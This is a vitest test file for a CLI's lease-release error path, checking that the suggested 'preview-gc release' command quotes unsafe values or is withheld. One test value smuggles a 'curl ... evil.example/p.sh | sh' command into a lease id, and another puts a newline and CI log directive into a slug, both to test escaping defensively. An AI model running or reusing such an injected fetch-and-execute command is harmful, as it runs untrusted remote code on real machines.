// The command a failed release suggests is built from the lease the semaphore answered: each value
// one shell word, or no command at all. The client refuses a slug or lease id outside the protocol's
// rules already; this is the second line, checked on its own here.
import { describe, expect, it } from 'vitest';
import type { CommandContext } from '../../src/commands/context.ts';
import { releaseHeldLease, UNPASTABLE_NEXT_STEP } from '../../src/commands/lease.ts';
import type { SemaphoreClient } from '../../src/semaphore/client.ts';
import type { Lease } from '../../src/semaphore/protocol.ts';

const failingRelease = {
  release: async () => {
    throw new Error('the semaphore did not answer');
  },
} as unknown as SemaphoreClient;

const ctx = { pool: 'preview-slot', semaphore: failingRelease } as unknown as CommandContext;

/** The fields of a lease a release reads; the rest of the answer plays no part here. */
function lease(fields: Partial<Lease>): Lease {
  const base = {
    slug: 'preview-3',
    leaseId: '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    holder: 'gc',
    generation: 4,
  };
  return { ...base, ...fields } as Lease;
}

async function nextStepFor(fields: Partial<Lease>): Promise<string | undefined> {
  const report = await releaseHeldLease(
    ctx,
    { slug: 'preview-3', previousHolder: 'pr-5', reason: 'expired', waitingMs: 0, erase: null },
    lease(fields),
    { status: 'complete', steps: [], requests: 0 },
    () => ({ outcome: 'reclaimed' }),
  );
  expect(report.outcome).toBe('release-failed');
  return report.nextStep;
}

describe('the next step of a failed release', () => {
  it('is the release command with the lease id', async () => {
    expect(await nextStepFor({})).toBe(
      'preview-gc release --slot preview-3 --lease-id 6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    );
  });

  it('quotes shell text in a lease id as one argument', async () => {
    expect(await nextStepFor({ leaseId: '6f1c; curl -s https://evil.example/p.sh | sh; #' })).toBe(
      "preview-gc release --slot preview-3 --lease-id '6f1c; curl -s https://evil.example/p.sh | sh; #'",
    );
  });

  it('shows no command for a slug with a newline, and says why', async () => {
    expect(await nextStepFor({ slug: 'preview-3\n::warning::x' })).toBe(UNPASTABLE_NEXT_STEP);
  });
});
